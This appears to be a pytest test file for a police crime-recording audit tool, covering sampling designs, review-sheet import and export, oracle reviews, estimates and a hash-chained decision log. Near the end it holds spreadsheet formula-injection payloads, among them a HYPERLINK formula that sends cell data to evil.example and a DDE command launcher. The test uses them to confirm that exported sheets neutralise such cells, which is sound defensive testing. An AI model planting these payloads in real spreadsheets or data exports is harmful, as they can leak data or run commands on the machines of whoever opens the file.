"""The audit end to end on a small generated force: sample, review sheets, oracle, estimate."""

from __future__ import annotations

import csv
import datetime as dt
import json

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from crimeaudit.audit import (
    AuditError,
    ReviewSheetError,
    SampleDesign,
    all_decisions,
    draw_sample,
    estimate,
    export_review,
    history,
    import_review,
    latest_decisions,
    load_sample,
    oracle_review,
    record_decision,
)
from crimeaudit.cli import app
from crimeaudit.cli.common import is_user_error
from crimeaudit.model.schema import TABLES
from crimeaudit.store import Project

CALLS = {
    "ASSAULT": ["8N", "105A"], "SEXUAL": ["20A", "19C"], "THEFT": ["49", "46"],
    "BURGLARY": ["28E"], "DAMAGE": ["58D"], "ASB": ["9A"], "WELFARE": ["9A"],
}
RECORD_RATE = {"ASSAULT": 0.7, "SEXUAL": 0.8}


def _table(name: str, rows: list[dict]) -> pa.Table:
    schema = TABLES[name].arrow_schema()
    cols = {f.name: [r.get(f.name) for r in rows] for f in schema}
    return pa.table(cols, schema=schema)


def make_force(n: int = 300, seed: int = 1) -> dict[str, pa.Table]:
    """A tiny force with known truth: incidents, crimes (some cancelled, late, downgraded)."""
    rng = np.random.default_rng(seed)
    t0 = dt.datetime(2013, 1, 1)
    inc, truth_inc, crimes, truth_cr = [], [], [], []
    for i in range(n):
        call = list(CALLS)[rng.integers(len(CALLS))]
        iid = f"I{i:04d}"
        reported = t0 + dt.timedelta(hours=int(rng.integers(0, 24 * 180)))
        crime_call = call not in ("ASB", "WELFARE")
        discloses = bool(rng.random() < (0.8 if crime_call else 0.15))
        code = CALLS[call][rng.integers(len(CALLS[call]))] if discloses else None
        recorded = discloses and bool(rng.random() < RECORD_RATE.get(call, 0.9))
        inc.append(dict(
            incident_id=iid, reported_at=reported, call_type=call,
            closing_code="CRIME_RECORDED" if recorded else "NFA",
            narrative=f"Caller reports {call.lower()}, line one,\nline two \"quoted\".",
            division=["North", "South"][i % 2], source="test",
        ))
        truth_inc.append(dict(incident_id=iid, discloses_crime=discloses,
                              true_offence_code=code, recorded=recorded))
        if recorded:
            cid = f"C{i:04d}"
            lost = bool(rng.random() < 0.05)
            downgraded = code == "8N" and rng.random() < 0.3
            cancelled = bool(rng.random() < 0.15)
            crimes.append(dict(
                crime_id=cid, incident_id=None if lost else iid, reported_at=reported,
                recorded_at=reported + dt.timedelta(hours=float(rng.exponential(15))),
                offence_code="105A" if downgraded else code,
                status="cancelled" if cancelled else "recorded",
                cancellation_reason="avi" if cancelled else None,
                cancelled_at=reported + dt.timedelta(days=3) if cancelled else None,
                division=["North", "South"][i % 2],
            ))
            truth_cr.append(dict(
                crime_id=cid, true_offence_code=code, correctly_classified=not downgraded,
                downgraded=bool(downgraded),
                cancellation_valid=bool(rng.random() < 0.6) if cancelled else None,
                victim_told=bool(rng.random() < 0.5) if cancelled else None,
                true_incident_id=iid, incident_ref_lost=lost,
            ))
    return {
        "incidents": _table("incidents", inc), "crimes": _table("crimes", crimes),
        "truth_incidents": _table("truth_incidents", truth_inc),
        "truth_crimes": _table("truth_crimes", truth_cr),
    }


@pytest.fixture(scope="module")
def force():
    return make_force()


@pytest.fixture
def project(tmp_path, force):
    p = Project.init(tmp_path / "force")
    for name, table in force.items():
        p.engine.write(name, table)
    yield p
    p.close()


def _snapshot(p: Project) -> pd.DataFrame:
    return all_decisions(p)


def test_same_seed_gives_the_same_sample_and_another_seed_does_not(project):
    a = draw_sample(project, kind="stratified", size=80, seed=3, strata_by=("strand",))
    b = draw_sample(project, kind="stratified", size=80, seed=3, strata_by=("strand",))
    c = draw_sample(project, kind="stratified", size=80, seed=4, strata_by=("strand",))
    assert a.sample_id == b.sample_id != c.sample_id
    assert list(a.records.record_id) == list(b.records.record_id)
    assert list(a.records.record_id) != list(c.records.record_id)
    stored = load_sample(project, a.sample_id)
    assert list(stored.records.record_id) == list(a.records.record_id)
    assert stored.population == a.population and sum(stored.allocation.values()) == 80
    # The lost-reference crimes are in the frame as crime records.
    frame_types = set(load_sample(project, a.sample_id).records.record_type)
    assert frame_types <= {"incident", "crime"}


def test_designs_carry_their_inclusion_probabilities(project, force):
    srs = draw_sample(project, kind="srs", size=60, seed=1)
    n_frame = srs.frame_size
    assert np.allclose(srs.records.inclusion_probability, 60 / n_frame)
    strat = draw_sample(project, kind="stratified", size=60, seed=1,
                        strata_by=("strand", "division"), allocation="proportional")
    for h, g in strat.records.groupby("stratum"):
        assert np.allclose(g.weight, strat.population[h] / strat.allocation[h])
    pps = draw_sample(project, kind="pps", size=60, seed=1, size_column="call_type_priority")
    probs = pps.records.set_index("record_id").inclusion_probability
    # Crime-type calls and crimes linked to no incident (a crime: the largest size) come first.
    crime_calls = (pps.records.strand != "other") | (pps.records.record_type == "crime")
    assert probs[crime_calls.to_numpy()].min() > probs[~crime_calls.to_numpy()].max()
    # A score from another table (e.g. the screen's) keyed by incident_id.
    ids = force["incidents"].column("incident_id").to_pylist()
    p_crime = [0.1 + (i % 10) / 10 for i in range(len(ids))]
    scores = pa.table({"incident_id": ids, "p_crime": p_crime})
    project.engine.write("screen_scores", scores)
    score = "screen_scores.p_crime"
    by_score = draw_sample(project, kind="pps", size=60, seed=1, size_column=score)
    inc = by_score.records[by_score.records.record_type == "incident"]
    assert inc.inclusion_probability.nunique() > 5
    zero = scores.set_column(1, "p_crime", pa.array([0.0] * len(ids)))
    project.engine.write("screen_scores", zero)
    with pytest.raises(AuditError, match="sizes must be positive"):
        draw_sample(project, kind="pps", size=60, seed=1, size_column=score)


def test_full_round_trip_with_the_oracle_covers_the_truth(project, force):
    draw_sample(project, kind="srs", size=200, seed=11)
    paths = export_review(project)
    assert paths["csv"].exists() and paths["xlsx"].exists()
    sheet = pd.read_csv(paths["csv"], keep_default_na=False)
    assert len(sheet) == 200 and sheet.narrative.str.contains("line two").any()
    assert sheet.crime_records.str.contains("recorded 2013").any()
    oracle_review(project)
    res = estimate(project, by=["strand"])
    rate = res.get("recording_rate")
    ti = force["truth_incidents"].to_pandas()
    true_rate = ti[ti.discloses_crime].recorded.mean()
    assert rate.lower <= true_rate <= rate.upper
    assert rate.method == "wilson" and rate.n == rate.denominator
    assert res.get("recording_rate", "violence").n < rate.n
    unrec = res.get("unrecorded_per_year")
    assert unrec.lower <= unrec.estimate <= unrec.upper and unrec.unit == "crimes"
    written = json.loads(
        (project.path / "reports" / f"estimates-{res.sample_id}-auto.json").read_text())
    assert written["sample_id"] == res.sample_id
    assert {e["measure"] for e in written["estimates"]} >= {
        "recording_rate", "timeliness", "classification_accuracy", "cancellation_wrong",
        "victim_told", "unrecorded_per_year"}


def _complete_sheet(project, path_csv, out, mutate=None):
    """Fill a review sheet from the oracle's answers (as a human would), then mutate it."""
    oracle_review(project)
    answers = latest_decisions(project, load_sample(project).sample_id).set_index("record_id")
    with open(path_csv, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for r in rows:
        a = answers.loc[r["record_id"]]
        for col in ("should_record", "recorded", "correctly_classified", "correct_class",
                    "within_time_limit", "cancellation_valid", "victim_told"):
            r[col] = a[col] if isinstance(a[col], str) else ""
        r["auditor"] = "A. Auditor"
    if mutate:
        rows = mutate(rows)
    with open(out, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return out


def test_a_completed_sheet_imports_and_xlsx_reads_back(project, tmp_path):
    draw_sample(project, kind="srs", size=40, seed=2)
    paths = export_review(project)
    done = _complete_sheet(project, paths["csv"], tmp_path / "done.csv")
    before = len(all_decisions(project))
    result = import_review(project, done)
    assert result.stored == 40 and result.superseded == 40
    assert len(all_decisions(project)) == before + 40
    # The XLSX sheet, untouched, is refused: nothing in it has been reviewed.
    with pytest.raises(ReviewSheetError, match=r"every one of the 40 rows is blank"):
        import_review(project, paths["xlsx"])
    # A bad value in it is named with the spreadsheet's own row number.
    from openpyxl import load_workbook

    wb = load_workbook(paths["xlsx"])
    ws = wb["review"]
    col = [c.value for c in ws[1]].index("should_record") + 1
    ws.cell(row=2, column=col, value="maybe")
    wb.save(tmp_path / "bad.xlsx")
    with pytest.raises(ReviewSheetError, match=r"line 2, column 'should_record': value 'maybe'"):
        import_review(project, tmp_path / "bad.xlsx")


@pytest.mark.parametrize(
    "mutate, message",
    [
        (lambda rows: [dict(rows[0], should_record="maybe"), *rows[1:]],
         r"line 2, column 'should_record': value 'maybe' is not allowed; use one of: "
         r"yes, no, cannot_tell"),
        (lambda rows: rows[:-1], r"has no row"),
        (lambda rows: [*rows, dict(rows[0], record_id="I9999")],
         r"'I9999' is not a record of sample"),
        (lambda rows: [*rows, rows[3]], r"is a duplicate \(also on line"),
        (lambda rows: [dict(rows[0], correct_class="99Z", correctly_classified="no",
                            should_record="yes", recorded="yes"), *rows[1:]],
         r"column 'correct_class': value '99Z' is not an offence code"),
    ],
    ids=["unknown value", "missing row", "not in sample", "duplicate", "unknown class"],
)
def test_bad_sheets_are_refused_whole_and_change_nothing(project, tmp_path, mutate, message):
    draw_sample(project, kind="srs", size=30, seed=5)
    paths = export_review(project)
    bad = _complete_sheet(project, paths["csv"], tmp_path / "bad.csv", mutate)
    before = _snapshot(project)
    with pytest.raises(ReviewSheetError, match=message) as err:
        import_review(project, bad)
    assert "bad.csv" in str(err.value) and "nothing was stored" in str(err.value)
    pd.testing.assert_frame_equal(_snapshot(project), before)


def test_line_numbers_count_multiline_narratives(project, tmp_path):
    draw_sample(project, kind="srs", size=10, seed=6)
    paths = export_review(project)
    bad = _complete_sheet(project, paths["csv"], tmp_path / "bad.csv",
                          lambda rows: [*rows[:5], dict(rows[5], recorded="perhaps"), *rows[6:]])
    with open(bad, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    # Narratives and crime lists span several lines: the sixth record starts after them all.
    expected = 2 + sum(1 + sum(v.count("\n") for v in r.values()) for r in rows[:5])
    assert expected > 7
    with pytest.raises(ReviewSheetError, match=rf"line {expected}, column 'recorded'"):
        import_review(project, bad)


def test_a_correction_supersedes_and_the_latest_decision_wins(project):
    sample = draw_sample(project, kind="srs", size=50, seed=8)
    oracle_review(project)
    first = estimate(project, write=False).get("recording_rate")
    target = latest_decisions(project, sample.sample_id)
    target = target[(target.should_record == "yes") & (target.recorded == "yes")
                     & target.cancellation_valid.isna()].iloc[0]
    record_decision(project, target.record_id, "second reviewer", should_record="yes",
                    recorded="no", correct_class="8N")
    versions = history(project, sample.sample_id, target.record_id)
    assert len(versions) == 2 and versions.supersedes.iloc[1] == versions.decision_id.iloc[0]
    assert versions.recorded.tolist() == ["yes", "no"]
    second = estimate(project, write=False).get("recording_rate")
    assert second.numerator == first.numerator - 1 and second.denominator == first.denominator


def test_stratified_and_pps_designs_estimate_with_design_based_methods(project, force):
    ti = force["truth_incidents"].to_pandas()
    for kw in (dict(kind="stratified", strata_by=("strand",), allocation="neyman"),
               dict(kind="pps", size_column="call_type_priority")):
        draw_sample(project, size=150, seed=9, **kw)
        oracle_review(project)
        rate = estimate(project, write=False).get("recording_rate")
        assert rate.method.endswith("wilson-neff")
        assert rate.lower < rate.estimate < rate.upper
        assert abs(rate.estimate - ti[ti.discloses_crime].recorded.mean()) < 0.15


def test_oracle_error_rate_changes_decisions_and_needs_truth(project, tmp_path):
    sample = draw_sample(project, kind="srs", size=100, seed=12)
    oracle_review(project)
    exact = latest_decisions(project, sample.sample_id).set_index("record_id").should_record
    oracle_review(project, error_rate=0.3, seed=1)
    noisy = latest_decisions(project, sample.sample_id).set_index("record_id").should_record
    assert 0 < (exact != noisy.loc[exact.index]).mean() < 0.6
    with Project.init(tmp_path / "real") as real:
        real.engine.write("incidents", make_force(20)["incidents"])
        draw_sample(real, kind="srs", size=5, seed=1)
        with pytest.raises(AuditError, match="ground truth"):
            oracle_review(real)


def test_estimating_before_any_decision_says_what_to_do(project):
    draw_sample(project, kind="srs", size=10, seed=1)
    with pytest.raises(AuditError, match="review import"):
        estimate(project)
    # Whether the screen package is installed or not, the user is told to run the screen.
    with pytest.raises(Exception, match="screen") as err:
        estimate(project, method="ppi")
    assert is_user_error(err.value)


def test_impossible_designs_are_refused_clearly(project):
    with pytest.raises(AuditError, match="larger than the frame"):
        draw_sample(project, kind="srs", size=10**6, seed=1)
    with pytest.raises(AuditError, match="size-column"):
        SampleDesign("pps", size=10)
    with pytest.raises(AuditError, match="unknown design"):
        SampleDesign("cluster", size=10)


runner = CliRunner()


def test_cli_sample_review_estimate_json(project):
    d = str(project.path)
    project.close()
    r = runner.invoke(app, ["sample", d, "--design", "stratified", "--by", "strand",
                            "--size", "60", "--seed", "4"])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["review", "export", d])
    assert r.exit_code == 0, r.output and "xlsx" in r.output
    r = runner.invoke(app, ["review", "oracle", d, "--error-rate", "0.01"])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["estimate", d, "--by", "strand", "--json"])
    assert r.exit_code == 0, r.output
    data = json.loads(r.stdout)
    rate = [e for e in data["estimates"]
            if e["measure"] == "recording_rate" and e["scope"] == "all"][0]
    assert 0 < rate["lower"] < rate["estimate"] < rate["upper"] < 1
    r = runner.invoke(app, ["estimate", d])
    assert r.exit_code == 0 and "recording_rate" in r.stdout
    r = runner.invoke(app, ["plan", d, "--margin", "0.02", "--expected", "0.85"])
    assert r.exit_code == 0 and "violence" in r.stdout, r.output
    r = runner.invoke(app, ["estimate", d, "--method", "ppi"])
    assert r.exit_code == 2 and "crimeaudit screen" in r.output


def test_a_completed_xlsx_sheet_imports(project, tmp_path):
    from openpyxl import load_workbook

    sample = draw_sample(project, kind="srs", size=20, seed=21)
    paths = export_review(project)
    oracle_review(project)
    answers = latest_decisions(project, sample.sample_id).set_index("record_id")
    wb = load_workbook(paths["xlsx"])
    ws = wb["review"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        a = answers.loc[row[header.index("record_id")].value]
        for j, col in enumerate(header):
            if col in answers.columns and col not in ("sample_id", "record_type", "record_id",
                                                      "notes", "auditor"):
                row[j].value = a[col] if isinstance(a[col], str) else None
        row[header.index("auditor")].value = "B. Auditor"
    wb.save(tmp_path / "done.xlsx")
    result = import_review(project, tmp_path / "done.xlsx")
    assert result.stored == 20
    latest = latest_decisions(project, sample.sample_id)
    assert set(latest.auditor) == {"B. Auditor"}
    assert latest.set_index("record_id").should_record.equals(answers.should_record)


def test_cancellation_audit_and_estimates_by_division(project, force):
    sample = draw_sample(project, kind="srs", size=15, seed=2, frame="cancellations")
    assert set(sample.records.record_type) == {"crime"}
    oracle_review(project)
    res = estimate(project, by=["division"], write=False)
    wrong = res.get("cancellation_wrong")
    truth = force["truth_crimes"].to_pandas().dropna(subset=["cancellation_valid"])
    assert wrong.lower <= 1 - truth.cancellation_valid.mean() <= wrong.upper
    assert {e.scope for e in res.estimates} >= {"division=North", "division=South"}
    assert "unrecorded_per_year" not in {e.measure for e in res.estimates}


def test_a_crime_whose_incident_reference_was_lost_is_not_counted_twice(project):
    sample = draw_sample(project, kind="srs", size=250, seed=13)
    orphans = sample.records[sample.records.record_type == "crime"]
    assert len(orphans) > 0
    oracle_review(project)
    d = latest_decisions(project, sample.sample_id).set_index("record_id")
    judged = d.loc[orphans.record_id]
    assert (judged.should_record == "cannot_tell").all()
    assert judged.notes.str.contains("reference lost").all()
    rate = estimate(project, write=False).get("recording_rate")
    assert "cannot_tell" in rate.notes


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


def test_hostile_text_never_becomes_a_live_formula_in_the_review_sheets(tmp_path, force):
    """Narratives, locations and divisions come from the public and the force: a cell that
    starts like a formula must open as text in a spreadsheet, and the sheet still imports."""
    from openpyxl import load_workbook

    inc = force["incidents"].to_pandas()
    k = len(inc)
    inc["narrative"] = [HOSTILE[i % len(HOSTILE)] for i in range(k)]
    inc["location"] = [HOSTILE[(i + 1) % len(HOSTILE)] for i in range(k)]
    inc["division"] = [HOSTILE[(i + 2) % len(HOSTILE)] for i in range(k)]
    d = tmp_path / "hostile"
    with Project.init(d) as p:
        p.engine.write("incidents", pa.Table.from_pandas(
            inc, schema=TABLES["incidents"].arrow_schema(), preserve_index=False),
            mode="append")
        for name in ("crimes", "truth_incidents", "truth_crimes"):
            p.engine.write(name, force[name], mode="append")
        draw_sample(p, kind="srs", size=40, seed=3)
        paths = export_review(p)
        ws = load_workbook(paths["xlsx"])["review"]
        header = [c.value for c in ws[1]]
        seen = set()
        for row in ws.iter_rows(min_row=2):
            for name in ("narrative", "location", "division"):
                cell = row[header.index(name)]
                assert cell.data_type != "f", (name, cell.value)  # never a formula
                if cell.value and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.value in HOSTILE  # the text itself is kept, unchanged
                    seen.add(cell.value)
        assert len(seen) >= 5  # the hostile texts did reach the sheet
        with open(paths["csv"], encoding="utf-8", newline="") as f:
            for rec in csv.DictReader(f):
                for name in ("narrative", "location", "division"):
                    assert not rec[name].startswith(("=", "+", "-", "@", "\t", "\r")), rec[name]
        oracle_review(p)
        # A completed CSV sheet (its cells escaped as exported) imports cleanly.
        answers = latest_decisions(p, load_sample(p).sample_id).set_index("record_id")
        sheet = pd.read_csv(paths["csv"], dtype=str, keep_default_na=False)
        for col in ("should_record", "recorded", "correctly_classified", "correct_class",
                    "within_time_limit", "cancellation_valid", "victim_told"):
            sheet[col] = sheet.record_id.map(answers[col]).fillna("")
        sheet["auditor"] = "A.Smith"
        done = tmp_path / "done.csv"
        sheet.to_csv(done, index=False, quoting=csv.QUOTE_ALL)
        assert import_review(p, done).stored == 40


def test_decisions_are_hash_chained_and_an_edited_row_is_named(tmp_path, force):
    import duckdb

    from crimeaudit.audit.decisions import verify_chain

    d = tmp_path / "chain"
    with Project.init(d) as p:
        for name, table in force.items():
            p.engine.write(name, table)
        draw_sample(p, kind="srs", size=30, seed=2)
        oracle_review(p)
        oracle_review(p)  # a second pass supersedes, and extends the chain
        checked, broken = verify_chain(p)
        assert (checked, broken) == (60, None)
        victim = int(all_decisions(p).decision_id.iloc[17])
    # Someone edits one decision behind the tool's back.
    con = duckdb.connect(str(d / "store.duckdb"))
    con.execute("UPDATE audit_decisions SET recorded = CASE WHEN recorded = 'yes' THEN 'no' "
                f"ELSE 'yes' END WHERE decision_id = {victim}")
    con.close()
    with Project.open(d) as p:
        assert verify_chain(p)[1] == victim
    # Deleting a row breaks the chain at the row after it.
    con = duckdb.connect(str(d / "store.duckdb"))
    con.execute(f"DELETE FROM audit_decisions WHERE decision_id = {victim}")
    con.close()
    with Project.open(d) as p:
        assert verify_chain(p)[1] == victim + 1


def test_an_adjudication_overrides_the_first_review_and_a_second_review_does_not(project):
    from crimeaudit.audit.decisions import append_decisions

    sample = draw_sample(project, kind="srs", size=10, seed=5)
    oracle_review(project)
    first = latest_decisions(project, sample.sample_id).set_index("record_id")
    rid = first.index[0]
    flipped = "no" if first.loc[rid, "should_record"] == "yes" else "yes"
    row = pd.DataFrame([{"sample_id": sample.sample_id, "record_type": "incident",
                         "record_id": rid, "should_record": flipped, "auditor": "B",
                         **{c: None for c in ("recorded", "correctly_classified",
                                              "correct_class", "within_time_limit",
                                              "cancellation_valid", "victim_told", "notes")}}])
    append_decisions(project, row, source="test", batch="b2", review="second")
    now = latest_decisions(project, sample.sample_id).set_index("record_id")
    assert now.loc[rid, "should_record"] == first.loc[rid, "should_record"]
    assert latest_decisions(project, sample.sample_id, review="second").record_id.tolist() == [rid]
    append_decisions(project, row.assign(auditor="Lead"), source="test", batch="b3",
                     review="adjudication")
    now = latest_decisions(project, sample.sample_id).set_index("record_id")
    assert now.loc[rid, "should_record"] == flipped and len(now) == 10
